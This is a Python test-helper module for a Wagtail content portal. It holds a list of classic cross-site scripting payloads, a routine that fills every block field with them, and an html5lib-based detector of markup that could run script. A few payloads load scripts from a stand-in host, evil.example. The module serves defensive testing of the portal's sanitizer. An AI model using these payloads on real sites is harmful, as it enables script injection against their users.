"""Classic XSS payloads, a filler that puts a value in every field a block can hold, and a check for markup that runs.

`fill(block, leaf)` walks a block definition (StreamBlock, StructBlock, ListBlock...) and returns its raw stored
value with `leaf(block)` in every leaf field, so a new block or field is filled without anyone listing it here.
`runnable_markup(html)` parses a page as a browser does (html5lib) and lists what could run script.
"""

import contextlib
import functools
import re
import uuid
from collections import Counter

import html5lib

from wagtail import blocks
from wagtail.contrib.table_block.blocks import TableBlock
from wagtail.documents.blocks import DocumentChooserBlock
from wagtail.embeds.blocks import EmbedBlock
from wagtail.images.blocks import ImageChooserBlock

import portal.sanitize

PAYLOADS = [
    "<script>alert('xss')</script>",
    "<ScRiPt>alert('xss')</sCrIpT>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert('xss')>",
    '<IMG SRC="x" ONERROR="alert(\'xss\')">',
    "<body onload=alert('xss')>",
    "<svg onload=alert('xss')>",
    "<svg><script>alert('xss')</script></svg>",
    '<svg><a xlink:href="javascript:alert(\'xss\')"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert('xss') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "<math><a xlink:href=\"javascript:alert('xss')\">m</a></math>",
    "<a href=\"javascript:alert('xss')\">link</a>",
    "<a href=\"JaVaScRiPt:alert('xss')\">link</a>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">hex entity</a>',
    '<a href=" &#14;  javascript:alert(1)">control character</a>',
    '<a href="java&#x09;script:alert(1)">tab</a>',
    '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="VBScript:msgbox(1)">vbscript mixed case</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "<a href=\"data:text/html,<script>alert('xss')</script>\">data html</a>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<img srcset=\"javascript:alert('xss')\">",
    '<a href="#" onclick="alert(\'xss\')">click</a>',
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert('xss')&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert('xss')\"></object>",
    '<object type="text/x-scriptlet" data="http://evil.example/x.sct"></object>',
    "<embed src=\"javascript:alert('xss')\">",
    "<div style=\"background:url(javascript:alert('xss'))\">styled</div>",
    "<div style=\"width: expression(alert('xss'))\">expression</div>",
    "<style>@import 'javascript:alert(1)'; body{background:url(\"javascript:alert('xss')\")}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss\')">',
    "<base href=\"javascript:alert('xss')//\">",
    '<link rel="stylesheet" href="javascript:alert(\'xss\')">',
    "<form action=\"javascript:alert('xss')\"><button>go</button></form>",
    "<form><button formaction=\"javascript:alert('xss')\">go</button></form>",
    "<input autofocus onfocus=alert('xss')>",
    "<details open ontoggle=alert('xss')><summary>s</summary></details>",
    "<video><source onerror=\"alert('xss')\"></video>",
    "<table background=\"javascript:alert('xss')\"><tr><td>cell</td></tr></table>",
    "<template><script>alert('xss')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss')>\"></noscript>",
    "<textarea></textarea><script>alert('xss')</script>",
    "<title><img src=x onerror=alert('xss')></title>",
    "<!--<img src=\"--><img src=x onerror=alert('xss')//\">",
    "<img src=x onerror=alert('xss')//",
    '<p title="x" onmouseover="alert(\'xss\')',
    "\"><script>alert('xss')</script>",
    "'><img src=x onerror=alert('xss')>",
    "</p></div></aside></section><script>alert('xss')</script>",
    "<frameset onload=alert('xss')>",
    "<marquee onstart=alert('xss')>m</marquee>",
    "<isindex type=image src=1 onerror=alert('xss')>",
    '<a href="javascript&#x3A;alert(\'xss\')" id="x" class="callout">colon entity</a>',
]

# The legitimate markup Wagtail's rich text and the guideline blocks produce; it must come out as it went in.
LEGITIMATE_RICH_TEXT = (
    '<h3 id="s-intro1">Identification</h3><h4>First contact</h4>'
    '<p dir="rtl" lang="ar">نص عربي</p>'
    "<p><b>Bold</b>, <i>italic</i>, <strong>strong</strong> and <em>emphasis</em>; it's &amp; more.</p>"
    "<ul><li>Consent first</li><li>Then refer</li></ul><ol><li>One</li><li>Two</li></ol>"
    '<p><a href="https://www.iom.int/">IOM</a> · <a href="/en/guidelines/case-management/#s-refer1">referral</a> · '
    '<a href="mailto:help@example.org">mail</a> · <a href="/documents/1/form.pdf">form</a> · '
    '<a href="#s-intro1">this section</a></p>'
)
LEGITIMATE_NOTE = (
    '<p>Call the <a href="tel:+20123456">hotline</a>; <b>never</b> share names.</p><ul><li>Egypt</li></ul>'
)
LEGITIMATE_TEXT = "Caseworkers refer with informed consent"

RUNNABLE_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg", "math", "portal", "isindex"}
# Present on the pages themselves (forms, the copy-citation script...): counted, and must not be added to.
COUNTED_TAGS = {"script", "style", "link", "meta", "form", "input", "button", "textarea", "select", "template"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset", "cite"}
RISKY_ATTRIBUTES = {"style", "srcdoc", "formaction", "http-equiv"}
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20]+")


def _scheme_runs(value: str) -> bool:
    return _IGNORED_IN_URLS.sub("", value).lower().startswith(SCRIPT_SCHEMES)


@functools.lru_cache(maxsize=64)
def _document(html: str):
    """Parsed once per page: html5lib is thorough (it parses as browsers do) but slow on long pages."""
    return html5lib.parse(html, namespaceHTMLElements=False)


def _elements(html: str):
    return _document(html).iter()


def runnable_markup(html: str) -> list[str]:
    """What in the page could run script on its own: runnable elements, event handlers, script URLs."""
    found = []
    for element in _elements(html):
        tag = element.tag if isinstance(element.tag, str) else ""
        if tag in RUNNABLE_TAGS:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.lower()
            if name.startswith("on"):
                found.append(f"<{tag} {name}>")
            elif name in URL_ATTRIBUTES and _scheme_runs(value):
                found.append(f"<{tag} {name}={value!r}>")
            elif name == "http-equiv" and value.lower() == "refresh":
                found.append(f"<{tag} http-equiv=refresh>")
    return found


def page_features(html: str) -> Counter:
    """The page's own scripts, styles, forms and fields (nonces aside), to compare with the same page without payloads."""
    features = Counter()
    for element in _elements(html):
        tag = element.tag if isinstance(element.tag, str) else ""
        if tag in COUNTED_TAGS:
            data = element.get("type", "").endswith("json")  # inert data (the admin's settings, with a CSRF token)
            text = (element.text or "").strip() if tag in ("script", "style") and not data else ""
            features[(tag, text)] += 1
        for name in element.attrib:
            if name.lower() in RISKY_ATTRIBUTES:
                features[(tag, name.lower())] += 1
    return features


def what_runs(pages: dict[str, str]) -> dict[str, list[str]]:
    """{page name: runnable markup found} for the pages that have any."""
    return {name: found for name, html in pages.items() if (found := runnable_markup(html))}


def features_changed(pages: dict[str, str], plain_pages: dict[str, str]) -> dict[str, dict]:
    """{page name: features added and lost} where a page differs from its plain-words twin."""
    changed = {}
    for name, html in pages.items():
        features, plain = page_features(html), page_features(plain_pages[name])
        if features != plain:
            changed[name] = {"added": features - plain, "lost": plain - features}
    return changed


def subtree(html: str, element_id: str) -> str:
    """The canonical markup of the element with this id (html5lib's serialization), to compare two renderings."""
    for element in _elements(html):
        if element.get("id") == element_id:
            walker = html5lib.getTreeWalker("etree")
            serializer = html5lib.serializer.HTMLSerializer(alphabetical_attributes=True, quote_attr_values="always")
            return serializer.render(walker(element))
    raise AssertionError(f"no element with id {element_id!r}")


def canonical(fragment: str) -> str:
    """A fragment as html5lib serializes it: equal strings mean the same elements, attributes and text."""
    walker = html5lib.getTreeWalker("etree")
    serializer = html5lib.serializer.HTMLSerializer(alphabetical_attributes=True, quote_attr_values="always")
    return serializer.render(walker(html5lib.parseFragment(fragment, namespaceHTMLElements=False)))


def fill(block, leaf):
    """The raw stored value of `block` with `leaf(block)` in each of its leaf fields (one child of every kind)."""
    if isinstance(block, blocks.StreamBlock):
        return [
            {"type": name, "id": str(uuid.uuid4()), "value": fill(child, leaf)}
            for name, child in block.child_blocks.items()
        ]
    if isinstance(block, blocks.ListBlock):
        return [{"type": "item", "id": str(uuid.uuid4()), "value": fill(block.child_block, leaf)}]
    if isinstance(block, blocks.StructBlock):  # ImageBlock too
        return {name: fill(child, leaf) for name, child in block.child_blocks.items()}
    return leaf(block)


def leaf_filler(text: str, html: str, *, document, image, page):
    """`leaf` for fill(): `html` in rich text, `text` in every text, choice and table field, these objects chosen."""

    def leaf(block):
        if isinstance(block, TableBlock):
            data = [[text, text], [text, text]]
            return {"data": data, "first_row_is_table_header": True, "first_col_is_header": True, "table_caption": text}
        if isinstance(block, blocks.RichTextBlock):
            return html
        if isinstance(block, EmbedBlock):
            return None  # fetched from a provider on the embed allow-list, never written by editors
        if isinstance(block, blocks.BooleanBlock):
            return True
        if isinstance(block, DocumentChooserBlock):
            return document.pk
        if isinstance(block, ImageChooserBlock):
            return image.pk
        if isinstance(block, blocks.PageChooserBlock):
            return page.pk
        if isinstance(block, blocks.CharBlock | blocks.ChoiceBlock | blocks.FieldBlock):
            return text
        raise AssertionError(f"leaf_filler() does not know {type(block).__name__}: teach it, so it gets payloads too")

    return leaf


class _NoCleaning:
    def clean(self, html: str) -> str:
        return html


@contextlib.contextmanager
def sanitizing_off():
    """As the portal was before sanitizing: rich text and frozen HTML kept as written (to make old editions)."""
    cleaner, portal.sanitize._CLEANER = portal.sanitize._CLEANER, _NoCleaning()
    try:
        yield
    finally:
        portal.sanitize._CLEANER = cleaner
